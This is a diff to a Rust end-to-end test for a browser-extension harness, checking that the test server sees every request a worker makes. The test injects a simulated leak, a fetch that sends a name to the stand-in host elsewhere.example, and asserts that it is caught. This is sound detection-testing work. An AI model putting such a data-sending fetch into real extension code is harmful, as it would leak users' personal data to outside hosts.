@@ -1,11 +1,13 @@
 //! What the harness itself promises, shown on a probe of a few lines instead of the extension: how the action is invoked, how hosts are
 //! granted, how a worker is killed, and that every request is seen.
 
+use std::collections::BTreeSet;
 use std::path::PathBuf;
 
 use afterword_e2e::chromium::{Chromium, Options};
 use afterword_e2e::firefox::Firefox;
 use afterword_e2e::server::{Interview, Server};
+use afterword_e2e::wait_until;
 use anyhow::Result;
 
 const WEEK: &str = "https://calendar.google.com/calendar/u/0/r/week?event=panel";
@@ -88,17 +90,16 @@ async fn every_request_is_seen_and_the_pages_make_no_strange_one() -> Result<()>
     let (server, browser) = start().await?;
     let gmail = browser.open("https://mail.google.com/mail/u/0/").await?;
     assert_eq!(server.strangers(), [], "before anything strange was done");
-    browser
-        .worker()
-        .await?
-        .evaluate("fetch('http://elsewhere.example/leak?name=Jane').catch(() => null).then(() => null)")
-        .await?;
-    let strange: Vec<String> = server
+    // The answer is not waited for: what counts is that the request is seen.
+    let leak = "void fetch('http://elsewhere.example/leak?name=Jane').catch(() => null)";
+    browser.worker().await?.evaluate(leak).await?;
+    wait_until("the worker's request", async || Ok((!server.strangers().is_empty()).then_some(()))).await?;
+    let strange: BTreeSet<String> = server
         .strangers()
         .into_iter()
         .map(|request| request.host + request.path.as_str())
         .collect();
-    assert_eq!(strange, ["elsewhere.example/leak?name=Jane"]);
+    assert_eq!(strange, BTreeSet::from(["elsewhere.example/leak?name=Jane".to_owned()]));
     drop(gmail);
     Ok(())
 }
